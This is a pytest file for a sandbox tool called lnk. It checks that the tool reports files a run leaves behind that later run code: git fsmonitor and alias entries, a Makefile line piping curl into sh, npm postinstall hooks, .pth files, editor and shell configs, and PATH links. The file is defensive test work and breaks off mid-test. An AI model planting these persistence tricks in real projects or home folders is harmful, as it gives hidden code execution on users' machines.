"""What a run left in its write folders that runs or is trusted later
(lnk-sandbox(1), WHAT A RUN LEFT; src/changes/flags.c is the table): each
flagged entry is named with what will run it on stderr, after the
program's output, and in `lnk sandbox changes --json`; a run that changed
nothing says nothing; ordinary changes are one line; lnk's exit status
stays the program's."""
import json
import os
import shutil
import subprocess
import time

import pytest

from conftest import IS_ROOT  # noqa: F401  (both users run this file)

# Linux's number for it; Python's time module does not name it
CLOCK_REALTIME_COARSE = getattr(time, "CLOCK_REALTIME_COARSE", 5)


LEFT_BEHIND = r"""
set -e
mkdir -p sub/.git
printf 'ref: refs/heads/main\n' > sub/.git/HEAD
printf '[core]\n\tfsmonitor = sh -c "touch /tmp/pwned"\n' > sub/.git/config
printf 'all:\n\tcurl https://x | sh\n' >> Makefile
printf '{"name":"app","scripts":{"postinstall":"sh evil.sh"}}\n' > package.json
echo 'module.exports = []' > eslint.config.js
echo 'import os' > readline.py
mkdir -p .venv/lib/python3.11/site-packages
echo 'import os; os.system("id")' > .venv/lib/python3.11/site-packages/x.pth
ln -s /etc etc-link
echo program-output
exit 3
"""

FLAGGED = {
    "sub/.git": "repository",
    "sub/.git/config": "core.fsmonitor",
    "Makefile": "make",
    "package.json": "postinstall",
    "eslint.config.js": "configuration file that is a program",
    "readline.py": "shadows Python's readline",
    ".venv/lib/python3.11/site-packages/x.pth": ".pth file",
    "etc-link": "/etc",
}


def sh(lnk, script, *grants, **kw):
    return lnk.run(*grants, "--", "/bin/sh", "-c", script, **kw)


def past(path):
    """Until the clock file systems stamp from has moved past path's
    change time: a change in the same tick as the run's start counts as
    changed (the safe side of a clock's granularity)."""
    ctime = os.stat(path).st_ctime_ns
    while time.clock_gettime_ns(CLOCK_REALTIME_COARSE) <= ctime:
        pass


def stderr_lines(cp):
    return [line for line in cp.stderr.splitlines() if line.strip()]


@pytest.mark.parametrize("name", [
    ".commitlintrc.js", ".commitlintrc.cjs", ".commitlintrc.ts",
    ".postcssrc.js", ".releaserc.js", "release.config.js", ".nycrc.js",
    ".c8rc.js", ".markdownlint-cli2.cjs"])
def test_more_configs_that_are_programs_are_flagged(lnk, work, name):
    """A configuration file that is a program (a commit-msg hook loads
    commitlint's, a build postcss's, a release semantic-release's) left in
    the project is named in the end report with its reason."""
    cp = sh(lnk, f"echo 'module.exports = {{}}' > {name}", "--write", work)
    hit = [ln for ln in stderr_lines(cp) if f"project/{name}: " in ln]
    assert hit and "configuration file that is a program" in hit[0], \
        cp.stderr


def test_a_module_left_on_a_code_path_of_yours_is_flagged(lnk, work):
    """Threat: your PYTHONPATH (PERL5LIB, RUBYLIB) names a folder of the
    project; the program leaves locale.py, strict.pm or rubygems.rb there,
    and your next python, perl or ruby, anywhere, loads it in place of its
    own. Such a folder is the project's own code, so it stays writable;
    a module that shadows the language's own is named at the end."""
    for d in ("lib", "perl", "rb"):
        (work / d).mkdir()
    env = {"PYTHONPATH": f"/nonexistent:{work}/lib",
           "PERL5LIB": str(work / "perl"), "RUBYLIB": str(work / "rb")}
    cp = sh(lnk, "echo x > lib/locale.py; echo x > lib/app.py; "
            "echo x > perl/strict.pm; echo x > rb/rubygems.rb",
            "--write", work, env=env)
    lines = stderr_lines(cp)
    for path, var in (("lib/locale.py", "PYTHONPATH"),
                      ("perl/strict.pm", "PERL5LIB"),
                      ("rb/rubygems.rb", "RUBYLIB")):
        hit = [ln for ln in lines if f"project/{path}: " in ln]
        assert hit and var in hit[0], (path, cp.stderr)
    assert not [ln for ln in lines if "project/lib/app.py: " in ln], \
        cp.stderr


def test_what_runs_later_is_flagged_with_its_reason(lnk, work):
    (work / "Makefile").write_text("all:\n\ttrue\n")
    (work / "package.json").write_text('{"name":"app"}\n')
    cp = sh(lnk, LEFT_BEHIND, "--write", work, "--name", "left")
    # the program's status, not the report's
    assert cp.returncode == 3, cp.stderr
    assert "program-output" in cp.stdout
    lines = stderr_lines(cp)
    for path, why in FLAGGED.items():
        hit = [ln for ln in lines if f"project/{path}: " in ln]
        assert hit, f"{path} not flagged:\n{cp.stderr}"
        assert why in hit[0], hit[0]
    assert "to review" in lines[0]

    cp = lnk("sandbox", "changes", "left", "--json")
    assert cp.returncode == 0, cp.stderr
    reports = [json.loads(x) for x in cp.stdout.splitlines()]
    assert len(reports) == 1 and reports[0]["sandbox"] == "left"
    flags = {f["path"]: f["reason"]
             for f in reports[0]["folders"][0]["flags"]}
    for path, why in FLAGGED.items():
        assert path in flags, f"{path} not in {flags}"
        assert why in flags[path]

    cp = lnk("sandbox", "changes")
    assert cp.returncode == 0
    assert "left, ended" in cp.stdout
    assert "core.fsmonitor" in cp.stdout


def test_run_that_changed_nothing_says_nothing(lnk, work):
    (work / "Makefile").write_text("all:\n\ttrue\n")
    (work / "readline.py").write_text("x = 1\n")
    past(work / "readline.py")
    cp = sh(lnk, "cat Makefile readline.py >/dev/null; echo ok",
            "--write", work, "--name", "quiet")
    assert cp.returncode == 0
    assert cp.stdout.strip() == "ok"
    assert "changed" not in cp.stderr
    assert "lnk:" not in cp.stderr, cp.stderr
    cp = lnk("sandbox", "changes", "quiet")
    assert "no report" in cp.stdout


def test_ordinary_changes_are_one_line(lnk, work):
    script = ("mkdir -p data node_modules/p && i=0; "
              "while [ $i -lt 10000 ]; do : > data/f$i; i=$((i+1)); done; "
              "for j in 1 2 3; do : > node_modules/p/m$j; done")
    cp = sh(lnk, script, "--write", work, timeout=300)
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)
    assert len(lines) == 1, cp.stderr
    assert "changed 10,003 files in ~/project (3 in node_modules)" \
        in lines[0], lines[0]


def test_names_the_program_chose_are_escaped(lnk, work):
    cp = sh(lnk, "mkdir -p \"$(printf 'a\\033[2Jb')/.git\" && "
            "printf '[alias]\\n\\tx = !sh\\n' > \"$(printf 'a\\033[2Jb')"
            "/.git/config\"", "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "\x1b" not in cp.stderr
    assert "a\\x1b[2Jb/.git/config: alias.x runs a shell command" \
        in cp.stderr, cp.stderr
    cp = lnk("sandbox", "changes")
    assert "\x1b" not in cp.stdout
    assert "a\\x1b[2Jb/.git/config: alias.x" in cp.stdout, cp.stdout
    cp = lnk("sandbox", "changes", "--json")
    assert "\x1b" not in cp.stdout
    flags = json.loads(cp.stdout.splitlines()[-1])["folders"][0]["flags"]
    assert "a\x1b[2Jb/.git/config" in [f["path"] for f in flags]


def test_links_are_not_followed(lnk, work, home):
    other = home / "other"
    other.mkdir()
    # the program writes a Makefile in a second write folder and links
    # to it from the first: each folder's walk reports its own, and the
    # link is never followed
    cp = sh(lnk, f"ln -s {other} out && echo x > {other}/Makefile",
            "--write", work, "--write", other)
    assert cp.returncode == 0, cp.stderr
    assert "project/out: a link out of the write folder" in cp.stderr
    assert "~/other/Makefile: a build file" in cp.stderr
    assert "out/Makefile" not in cp.stderr


def test_changes_off_says_nothing_and_keeps_nothing(lnk, work):
    cp = sh(lnk, "echo x > Makefile", "--write", work, "--changes=off",
            "--name", "off")
    assert cp.returncode == 0, cp.stderr
    assert "Makefile" not in cp.stderr
    cp = lnk("sandbox", "changes", "off")
    assert "no report" in cp.stdout


def test_changes_full_lists_every_file(lnk, work):
    cp = sh(lnk, "mkdir d && : > d/one && : > d/two", "--write", work,
            "--changes", "full")
    assert cp.returncode == 0, cp.stderr
    assert "changed ~/project/d/one" in cp.stderr
    assert "changed ~/project/d/two" in cp.stderr


def test_changes_key_in_a_spec_and_a_bad_value(lnk, work):
    spec = work.parent / "quiet.toml"
    spec.write_text(f'version = 1\n[files]\nwrite = ["{work}"]\n'
                    'changes = "off"\n[commands]\nallow = ["*"]\n')
    cp = lnk.run("--spec", spec, "--yes", "--", "/bin/sh", "-c",
                 "echo x > Makefile")
    assert cp.returncode == 0, cp.stderr
    assert "Makefile" not in cp.stderr
    cp = sh(lnk, "true", "--write", work, "--changes", "some")
    assert cp.returncode == 2
    assert "give 'summary', 'full' or 'off'" in cp.stderr


def test_a_spec_that_silences_the_report_asks(lnk, work):
    """Invariant 6 (policy), promise: a spec that widens asks again; the
    end of a run names what it left that runs later.

    Threat: `changes = "off"` opens nothing, so it was never asked
    about: a program that may write its own accepted spec (the project's
    app.toml) added it, and the next run, asking nothing, left a
    sitecustomize.py that no report named. Saying less than the accepted
    spec asks again."""
    spec = work / "app.toml"
    spec.write_text('version = 1\n[files]\nwrite = ["."]\n'
                    '[commands]\nallow = ["*"]\n')
    cp = lnk.run("--spec", spec, "--yes", "--", "/bin/sh", "-c",
                 "sed -i 's/^write = .*/&\\nchanges = \"off\"/' app.toml")
    assert cp.returncode == 0, cp.stderr
    assert 'changes = "off"' in spec.read_text()
    cp = lnk.run("--spec", spec, "--", "/bin/sh", "-c",
                 "echo x > sitecustomize.py", input="")
    assert cp.returncode != 0, cp.stderr
    assert not (work / "sitecustomize.py").exists()
    assert "opens something different" in cp.stderr, cp.stderr
    # "full" says more than accepted: no question
    spec.write_text('version = 1\n[files]\nwrite = ["."]\n'
                    'changes = "full"\n[commands]\nallow = ["*"]\n')
    cp = lnk.run("--spec", spec, "--", "true", input="")
    assert cp.returncode == 0, cp.stderr


def test_a_write_folder_inside_another_is_reported_once(lnk, work):
    sub = work / "sub"
    sub.mkdir()
    cp = sh(lnk, "echo x > sub/Makefile", "--write", work, "--write", sub)
    assert cp.returncode == 0, cp.stderr
    assert cp.stderr.count("Makefile: a build file") == 1, cp.stderr
    assert "~/project/sub/Makefile: a build file" in cp.stderr


def test_large_package_json_is_flagged_not_skipped(lnk, work):
    cp = sh(lnk, "{ printf '{\"scripts\":{\"x\":\"y\"},\"pad\":\"'; "
            "head -c 300000 /dev/zero | tr '\\0' a; printf '\"}'; } "
            "> package.json", "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "package.json: a package.json too large" in cp.stderr


def test_on_a_terminal_after_the_program_and_its_status(lnk, work):
    from test_terminal import read_until, spawn_on_pty, wait_status
    pid, fd = spawn_on_pty(lnk, ["--write", work, "--", "/bin/sh", "-c",
                                 LEFT_BEHIND])
    try:
        out = read_until(fd, b"never", timeout=20)
    finally:
        status = wait_status(pid)
        os.close(fd)
    text = out.decode(errors="replace").replace("\r\n", "\n")
    assert status == 3, text
    assert "program-output" in text
    assert text.index("program-output") < text.index("lnk: changed"), text
    for path, why in FLAGGED.items():
        line = [ln for ln in text.splitlines() if f"project/{path}: " in ln]
        assert line and why in line[0], f"{path}:\n{text}"


def test_many_flags_are_bounded_on_the_terminal_and_kept(lnk, work):
    cp = sh(lnk, "for i in $(seq 60); do mkdir d$i && : > d$i/Makefile; "
            "done", "--write", work, "--name", "many")
    assert cp.returncode == 0, cp.stderr
    assert cp.stderr.count(": a build file") == 50, cp.stderr
    assert "and 10 more to review: lnk sandbox changes many" in cp.stderr
    cp = lnk("sandbox", "changes", "many")
    assert cp.stdout.count(": a build file") == 60


def test_a_folder_closed_by_its_mode_is_named(lnk, work, is_root):
    cp = sh(lnk, "mkdir -p box/sub/.git && : > box/sub/.git/config && "
            "chmod 0 box", "--write", work)
    try:
        assert cp.returncode == 0, cp.stderr
        if is_root:
            # root reads it: what it holds is flagged itself
            assert "project/box/sub/.git: a repository" in cp.stderr
        else:
            assert "project/box: a folder lnk could not look into" \
                in cp.stderr, cp.stderr
    finally:
        (work / "box").chmod(0o755)


def test_check_uses_the_table(lnk, work):
    """check leaves a repository below the top of each write folder, as a
    program would, and the report a run's end gives must name it."""
    cp = lnk("sandbox", "check", "--write", work, "--json", timeout=300)
    out = json.loads(cp.stdout)
    later = [t for t in out["tries"] if t["area"] == "later"]
    assert len(later) == 1, out["tries"]
    assert later[0]["result"] == "open", later[0]
    assert "the end of a run names it: a repository" in later[0]["detail"]
    assert later[0]["gap"] == "what a program leaves that runs later"
    assert not [p for p in os.listdir(work) if p.startswith("lnk-check-")]


def test_names_that_run_outside_below_the_top(lnk, work):
    """The dot-file rules keep .npmrc, .vscode, ... at the top; below it a
    tool started in that folder reads them: each is named, and a file
    changed inside a folder of theirs too."""
    (work / "pkg" / ".vscode").mkdir(parents=True)
    (work / "pkg" / ".vscode" / "tasks.json").write_text("{}\n")
    past(work / "pkg" / ".vscode" / "tasks.json")
    cp = sh(lnk, "echo 'node-options=--require ./x.js' > pkg/.npmrc; "
            "echo '{\"tasks\":[]}' > pkg/.vscode/tasks.json",
            "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "project/pkg/.npmrc: .npmrc: npm reads" in cp.stderr, cp.stderr
    assert "project/pkg/.vscode/tasks.json: in .vscode: the editor" \
        in cp.stderr, cp.stderr


@pytest.mark.skipif(shutil.which("tmux") is None,
                    reason="tmux is not installed")
def test_under_tmux_a_person_sees_each_flag(lnk, work, tmp_path):
    """In a tmux pane, as a person's terminal: the program's output, then
    each flagged entry on its own line; lnk's status is the program's."""
    from test_ask_terminal import Pane
    pane = Pane(lnk, tmp_path, ["--write", work, "--", "/bin/sh", "-c",
                                LEFT_BEHIND])
    try:
        assert pane.exit_status() == 3, pane.text()
        text = pane.text()
    finally:
        pane.close()
    assert "\x1b" not in text
    assert text.index("program-output") < text.index("lnk: changed"), text
    for path, why in FLAGGED.items():
        line = [ln for ln in text.splitlines() if f"project/{path}: " in ln]
        assert line and why in line[0], f"{path}:\n{text}"


def test_flagged_leftovers_are_said_on_the_desktop_without_a_terminal(
        lnk, work, tmp_path):
    """A run nobody watches at a terminal (a job, an agent) in a desktop
    session: what it left that runs later is also a desktop notification,
    through notify-send with a clean environment."""
    from conftest import on_lnk_path
    got = tmp_path / "notified"
    # written whole, then renamed into place: the test reads it the
    # moment it is there
    on_lnk_path(lnk, tmp_path / "nbin", "notify-send",
                "#!/bin/sh\nprintf '%s\\n' \"$@\" > " + str(got) + ".tmp\n"
                "env > " + str(got) + ".env\n"
                "mv " + str(got) + ".tmp " + str(got) + "\n",
                DBUS_SESSION_BUS_ADDRESS="unix:path=/nonexistent",
                DISPLAY=":9", LD_PRELOAD="/nonexistent.so")
    cp = lnk.run("--name", "desk", "--write", work, "--", "/bin/sh", "-c",
                 "git init -q sub && git -C sub config core.fsmonitor "
                 "'touch /tmp/x'")
    assert cp.returncode == 0, cp.stderr
    deadline = time.time() + 10
    while not got.exists() and time.time() < deadline:
        time.sleep(0.05)
    text = got.read_text()
    assert "lnk: sandbox desk left what runs later" in text, text
    assert "lnk sandbox changes desk" in text, text
    env = (tmp_path / "notified.env").read_text()
    assert "LD_PRELOAD" not in env, env  # a clean environment


def test_nothing_flagged_is_no_notification(lnk, work, tmp_path):
    from conftest import on_lnk_path
    got = tmp_path / "notified"
    on_lnk_path(lnk, tmp_path / "nbin", "notify-send",
                "#!/bin/sh\ntouch " + str(got) + "\n",
                DBUS_SESSION_BUS_ADDRESS="unix:path=/nonexistent")
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c", "echo hi > a.txt")
    assert cp.returncode == 0, cp.stderr
    time.sleep(0.5)
    assert not got.exists()


def test_two_headers_on_one_line_in_a_nested_repository(lnk, work):
    """Threat: git reads "[x][core]" as two headers, so the fsmonitor
    after it is core's and runs at the next `git status` in the clone; a
    reader that stops at the first ']' files it under x."""
    lib = work / "vendor" / "lib"
    lib.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(lib)], check=True)
    past(lib / ".git" / "config")
    cp = sh(lnk, "printf '[x][core]\\n\\tfsmonitor = \"touch /tmp/PWN; "
            "false\"\\n' >> vendor/lib/.git/config && "
            "printf '[x] [core]\\n\\tpager = p\\n' >> vendor/lib/.git/config",
            "--write", work)
    assert cp.returncode == 0, cp.stderr
    line = [ln for ln in stderr_lines(cp)
            if "project/vendor/lib/.git/config: " in ln]
    assert line, cp.stderr
    assert "core.fsmonitor" in line[0] and "core.pager" in line[0], line


@pytest.mark.parametrize("before", [
    "[x]\\n\\ta = foo\\\\\\\\\\n",   # an escaped backslash ends the value
    "[x]\\n# note \\\\\\n",             # a comment never continues
    "[x]\\n# \\000 nul\\n",             # a NUL, which git reads past
    "[x]\\r",                            # a CR, a blank to git
], ids=["escaped-backslash", "comment-backslash", "nul", "cr"])
def test_what_hides_a_header_from_a_reader_hides_nothing(lnk, work, before):
    """Threat: a reader that joins every backslash-newline (or stops at a
    NUL) reads the "[core]" after these lines as part of them, and files
    the fsmonitor under [x]; git reads the header, and `git status` in
    the clone runs it."""
    lib = work / "vendor" / "lib"
    lib.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(lib)], check=True)
    past(lib / ".git" / "config")
    cp = sh(lnk, f"printf '{before}[core]\\n\\tfsmonitor = \"touch "
            "/tmp/PWN; false\"\\n' >> vendor/lib/.git/config",
            "--write", work)
    assert cp.returncode == 0, cp.stderr
    got = subprocess.run(["git", "-C", str(lib), "config", "--get",
                          "core.fsmonitor"], capture_output=True, text=True)
    assert "touch /tmp/PWN" in got.stdout, got  # git reads it so
    line = [ln for ln in stderr_lines(cp)
            if "project/vendor/lib/.git/config: " in ln]
    assert line and "core.fsmonitor" in line[0], cp.stderr


def test_a_worktrees_commondir_pointed_elsewhere(lnk, work):
    """Threat: a linked worktree's .git/worktrees/W/commondir names the
    folder git takes its config from; the program points it at a folder
    of its own with a fsmonitor in its config and no HEAD (so no
    repository of its own to find), and `git status` in the worktree
    runs it."""
    sub = work / "sub"
    sub.mkdir()
    env = {"HOME": str(lnk.home), "PATH": "/usr/bin:/bin",
           "GIT_CONFIG_NOSYSTEM": "1"}
    for args in (["init", "-q"],
                 ["-c", "user.name=t", "-c", "user.email=t@t.test",
                  "commit", "-q", "--allow-empty", "-m", "x"],
                 ["worktree", "add", "-q", str(work / "wt")]):
        subprocess.run(["git", *args], cwd=sub, env=env, check=True)
    past(sub / ".git" / "worktrees" / "wt" / "commondir")
    cp = sh(lnk, "mkdir -p ev && cp -r sub/.git/objects sub/.git/refs ev/ "
            "&& printf '[core]\\n\\tfsmonitor = \"touch /tmp/PWN; "
            "false\"\\n' > ev/config && "
            f"echo {work}/ev > sub/.git/worktrees/wt/commondir",
            "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert [ln for ln in stderr_lines(cp)
            if "worktrees/wt/commondir: " in ln], cp.stderr


def test_a_repository_assembled_over_two_runs(lnk, work):
    """Threat: run 1 leaves HEAD, objects and a config (core.worktree and
    a fsmonitor), run 2 only refs: the folder is a repository from then
    on and `cd src && git status` runs the fsmonitor. The run that makes
    it one names it and what its config runs."""
    cp = sh(lnk, "mkdir -p src/objects && "
            "printf 'ref: refs/heads/main\\n' > src/HEAD && "
            "printf '[core]\\n\\tworktree = .\\n\\tfsmonitor = "
            "\"touch /tmp/PWN; false\"\\n' > src/config", "--write", work)
    assert cp.returncode == 0, cp.stderr
    past(work / "src" / "config")
    cp = sh(lnk, "mkdir src/refs", "--write", work)
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)
    assert [ln for ln in lines if "project/src/HEAD: a bare repository"
            in ln], cp.stderr
    assert [ln for ln in lines if "project/src/config: core.fsmonitor"
            in ln], cp.stderr


def test_links_are_judged_by_where_they_lead(lnk, work):
    """Threat: a link spelled to stay inside that leads out through
    another link (s -> ., then s/../x) is followed by the tools that read
    it, out of the write folder; so is a dangling one that climbs through
    a name not yet made."""
    cp = sh(lnk, "ln -s . s && ln -s s/../home/secret notes.txt && "
            "mkdir d && ln -s ../s/s/s/../../../x d/l && "
            "ln -s ../missing/../../x d/m && ln -s d/l d/../n && "
            "ln -s d inside && ln -s ../d/../notes.txt d/fine",
            "--write", work)
    assert cp.returncode == 0, cp.stderr
    out = [ln for ln in stderr_lines(cp) if "a link out of the write folder"
           in ln]
    for name in ("notes.txt", "d/l", "d/m", "n"):
        assert [ln for ln in out if f"project/{name}: " in ln], cp.stderr
    for name in ("s", "inside"):
        assert not [ln for ln in out if f"project/{name}: " in ln], \
            cp.stderr


XDG_RUN_LATER = {
    "git/config": "git",
    "git/attributes": "git",
    "fish/config.fish": "fish",
    "fish/conf.d/x.fish": "fish",
    "fish/functions/ls.fish": "fish",
    "direnv/direnvrc": "direnv",
    "direnv/lib/x.sh": "direnv",
    "nvim/init.lua": "Neovim",
    "nvim/init.vim": "Neovim",
    "nvim/plugin/x.lua": "Neovim",
    "nvim/lua/a/b.lua": "Neovim",
    "autostart/x.desktop": "login",
    "tmux/tmux.conf": "tmux",
    "tmux/theme.conf": "tmux",
    "fish/completions/git.fish": "fish",
    "nvim/after/plugin/x.lua": "Neovim",
    "nvim/ftplugin/python.lua": "Neovim",
    "nvim/ftdetect/x.vim": "Neovim",
    "Code/User/settings.json": "VS Code",
    "Code/User/tasks.json": "VS Code",
    "starship.toml": "starship",
    "gh/config.yml": "gh",
    "mimeapps.list": "opens",
    "fish/fish_variables": "PATH",
    "Code - Insiders/User/settings.json": "VS Code",
    "Cursor/User/settings.json": "Cursor",
    "Code/User/profiles/1a2b/settings.json": "profile",
    "zed/settings.json": "Zed",
    "lf/lfrc": "lf",
    "ranger/commands.py": "ranger",
    "direnv/direnv.toml": "whitelist",
    "pip/pip.conf": "index",
    "uv/uv.toml": "index",
    "bash_completion": "bash",
    "user-tmpfiles.d/x.conf": "tmpfiles",
    "lesskey": "less",
    "systemd/user.conf": "systemd",
    "systemd/user.conf.d/x.conf": "systemd",
    "nvim/pack/p/start/x/plugin/x.lua": "Neovim",
    "nvim/colors/x.lua": "Neovim",
    "nvim/autoload/x.vim": "Neovim",
    "vim/vimrc": "Vim",
    "vim/plugin/x.vim": "Vim",
    "emacs/init.el": "Emacs",
    "emacs/early-init.el": "Emacs",
    "pipewire/pipewire.conf": "PipeWire",
    "pipewire/pipewire.conf.d/x.conf": "PipeWire",
    "helix/languages.toml": "Helix",
    "direnv/config.toml": "whitelist",
}


def left_and_flagged(lnk, grant, folder, shown, names, extra):
    """A run that writes grant leaves each of names (path: the word its
    reason holds) below folder, then runs extra there: each is flagged
    on its line, ~/shown/path. Returns the run."""
    script = "; ".join(f"mkdir -p \"$(dirname '{n}')\" && echo x > '{n}'"
                       for n in names)
    cp = lnk.run("--write", grant, "--", "/bin/sh", "-c",
                 f"cd '{folder}' && {script} && {extra}")
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)
    for name, word in names.items():
        hit = [ln for ln in lines if f"~/{shown}/{name}: " in ln]
        assert hit and word in hit[0], (name, cp.stderr)
    return cp


def test_what_host_programs_run_from_the_config_folder(lnk, home):
    """Threat: you grant ~/.config (or the home) for a tool's settings;
    the program leaves a fish conf.d file, a git config with a pager, an
    nvim plugin: your next shell, git or editor runs it. Known by the
    folder's identity, not its name."""
    cfg = home / ".config"
    cfg.mkdir()
    cp = left_and_flagged(lnk, cfg, cfg, ".config", XDG_RUN_LATER,
                          "echo x > fish/notes.txt")
    assert "fish/notes.txt" not in cp.stderr
    past(cfg / "fish" / "conf.d" / "x.fish")
    cp = lnk.run("--write", home, "--write-dot-files", home, "--",
                 "/bin/sh",
                 "-c", f"cd '{home}' && echo y > .config/fish/conf.d/y.fish"
                 " && mkdir -p project/fish/conf.d && "
                 "echo y > project/fish/conf.d/y.fish")
    assert cp.returncode == 0, cp.stderr
    assert "~/.config/fish/conf.d/y.fish: " in cp.stderr, cp.stderr
    assert "project/fish/conf.d/y.fish" not in cp.stderr


XDG_DATA_RUN_LATER = {
    "applications/x.desktop": "Exec",
    "applications/sub/y.desktop": "Exec",
    "applications/mimeapps.list": "opens",
    "nvim/site/pack/p/start/x/plugin/x.lua": "Neovim",
    "nvim/site/plugin/y.vim": "Neovim",
    "fish/vendor_conf.d/x.fish": "fish",
    "fish/vendor_functions.d/ls.fish": "fish",
    "fish/vendor_completions.d/git.fish": "fish",
    "fish/generated_completions/git.fish": "fish",
    "bash-completion/completions/ls": "bash runs it",
    "dbus-1/services/n.service": "D-Bus",
    "thumbnailers/x.thumbnailer": "thumbnail",
    "nautilus/scripts/Open": "Nautilus",
    "kio/servicemenus/x.desktop": "Dolphin",
    "kservices5/ServiceMenus/x.desktop": "Dolphin",
    "gnome-shell/extensions/x@y/extension.js": "GNOME Shell",
    "jupyter/kernels/k/kernel.json": "Jupyter",
    "nautilus-python/extensions/x.py": "Nautilus",
    "konsole/x.profile": "Konsole",
    "direnv/allow/0123abcd": "direnv",
}


def test_what_host_programs_run_from_the_data_folder(lnk, home):
    """Threat: you grant ~/.local (or the home); the program leaves a
    desktop file that claims text/plain with Exec=sh -c ..., a mimeapps.list
    that picks it, an nvim package, a fish vendor_conf.d file, a bash
    completion, a D-Bus service or a thumbnailer: the next xdg-open,
    editor, shell, tab, bus call or file manager runs it as you. Known by the data folder's
    identity, whether granted itself, as ~/.local or under the home."""
    share = home / ".local" / "share"
    share.mkdir(parents=True)
    cp = left_and_flagged(lnk, home / ".local", share, ".local/share",
                          XDG_DATA_RUN_LATER, "echo x > nvim/notes.txt && "
                          "echo x > applications/notes.txt")
    assert "nvim/notes.txt" not in cp.stderr
    assert "applications/notes.txt" not in cp.stderr
    past(share / "applications" / "x.desktop")
    for grant in ([share], [home, "--write-dot-files", home]):
        cp = lnk.run("--write", *grant, "--", "/bin/sh", "-c",
                     f"cd '{share}' && echo y > applications/z.desktop ; "
                     f"mkdir -p '{home}/project/applications' && "
                     f"echo y > '{home}/project/applications/z.desktop' ;"
                     " true")
        assert cp.returncode == 0, cp.stderr
        assert "~/.local/share/applications/z.desktop: " in cp.stderr, \
            cp.stderr
        assert "project/applications/z.desktop" not in cp.stderr
        past(share / "applications" / "z.desktop")


def test_a_git_alias_that_is_a_global_option(lnk, work):
    """Threat: `[alias] st = -c core.fsmonitor="touch /tmp/x" status` has
    no '!', yet `git st` in the clone runs the fsmonitor: options before
    the command set any key (-c, --config-env) or run another git
    (--exec-path, -C, --git-dir)."""
    lib = work / "vendor" / "lib"
    lib.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(lib)], check=True)
    past(lib / ".git" / "config")
    (work / "payload").write_text(
        '[alias]\n\tst = -c core.fsmonitor="touch /tmp/x" status\n'
        '\tl = log --oneline\n\tx = --exec-path=/tmp/evil status\n')
    cp = sh(lnk, "cat payload >> vendor/lib/.git/config", "--write", work)
    assert cp.returncode == 0, cp.stderr
    line = [ln for ln in stderr_lines(cp)
            if "project/vendor/lib/.git/config: " in ln]
    assert line, cp.stderr
    assert "alias.st " in line[0] and "alias.x " in line[0], line
    assert "alias.l " not in line[0], line


def test_a_program_or_link_in_the_homes_bin_folders(lnk, home):
    """Threat: Debian's ~/.profile puts ~/.local/bin and ~/bin first on
    PATH when they exist. One run makes the folder, the next a link
    ~/.local/bin/ls -> ../share/tool/run: your next login's ls is the
    program's. Known by identity whether the grant is the home, ~/.local
    or the folder itself, and said as a PATH folder's before anything
    else (a link into .cache is first a program on PATH)."""
    cp = lnk.run("--write", home, "--write-dot-files", home, "--",
                 "/bin/sh", "-c",
                 f"cd '{home}' && mkdir -p .local/bin bin "
                 ".local/share/tool .cache/tool && "
                 "echo 'echo hi' > .local/share/tool/run && "
                 "echo 'echo hi' > .cache/tool/run")
    assert cp.returncode == 0, cp.stderr
    past(home / ".cache" / "tool" / "run")
    for n, grant in enumerate((home, home / ".local",
                               home / ".local" / "bin", home / "bin")):
        dots = ["--write-dot-files", home] if grant == home else []
        lb, b = home / ".local" / "bin", home / "bin"
        cp = lnk.run("--write", grant, *dots, "--", "/bin/sh", "-c",
                     f"ln -s ../share/tool/run '{lb}/ls{n}' ; "
                     f"ln -s ../.cache/tool/run '{b}/cat{n}' ; "
                     f"ln -s ../../.cache/tool/run '{lb}/cp{n}' ; "
                     f"printf '#!/bin/sh\\n' > '{b}/mv{n}' ; "
                     f"chmod +x '{b}/mv{n}' ; touch '{grant}/mark{n}'")
        assert cp.returncode == 0, cp.stderr
        lines = stderr_lines(cp)
        names = {home / ".local": [".local/bin/ls", ".local/bin/cp"],
                 home / ".local" / "bin": [".local/bin/ls",
                                           ".local/bin/cp"],
                 home / "bin": ["bin/cat", "bin/mv"]}.get(
            grant, [".local/bin/ls", ".local/bin/cp", "bin/cat", "bin/mv"])
        for name in names:
            hit = [ln for ln in lines if f"~/{name}{n}: " in ln]
            assert hit, (grant, name, cp.stderr)
            reason = hit[0].split(f"~/{name}{n}: ", 1)[1]
            assert reason.startswith("a new program or link in a folder "
                                     "on your PATH"), (grant, hit[0])
        past(grant / f"mark{n}")


MOVED = "in a folder the run moved or changed: "


def test_a_folder_moved_into_place_brings_what_it_holds(lnk, home, work):
    """Threat: a rename changes the folder's change time, not its
    children's. Run 1 leaves ~/.local/node_modules/ls (a package's file,
    only counted) and ~/.config/node_modules/pkg/config (a fsmonitor);
    run 2 renames the folders to ~/.local/bin (first on PATH at the next
    login) and ~/.config/git (git's own config), one of them with a file
    added beside (its own time is then the run's too). What they bring is
    judged at its new place, said as not changed itself, and not
    counted."""
    local, cfg = home / ".local", home / ".config"
    local.mkdir()
    cfg.mkdir()
    cp = lnk.run("--write", local, "--write", cfg, "--", "/bin/sh", "-c",
                 "set -e; mkdir -p node_modules/.bin "
                 f"'{cfg}/node_modules/pkg' && "
                 "printf '#!/bin/sh\\n' > node_modules/ls && "
                 "chmod +x node_modules/ls && "
                 "printf '[core]\\n\\tfsmonitor = \"touch /tmp/PWN; "
                 f"false\"\\n' > '{cfg}/node_modules/pkg/config'",
                 cwd=local)
    assert cp.returncode == 0, cp.stderr
    assert "node_modules/ls: " not in cp.stderr, cp.stderr
    assert "pkg/config: " not in cp.stderr, cp.stderr
    past(cfg / "node_modules" / "pkg" / "config")
    cp = lnk.run("--write", local, "--write", cfg, "--", "/bin/sh", "-c",
                 "set -e; mv node_modules bin && : > bin/README && "
                 f"mv '{cfg}/node_modules/pkg' '{cfg}/git'", cwd=local)
    assert cp.returncode == 0, cp.stderr
    lines = stderr_lines(cp)
    ls = [ln for ln in lines if "~/.local/bin/ls: " in ln]
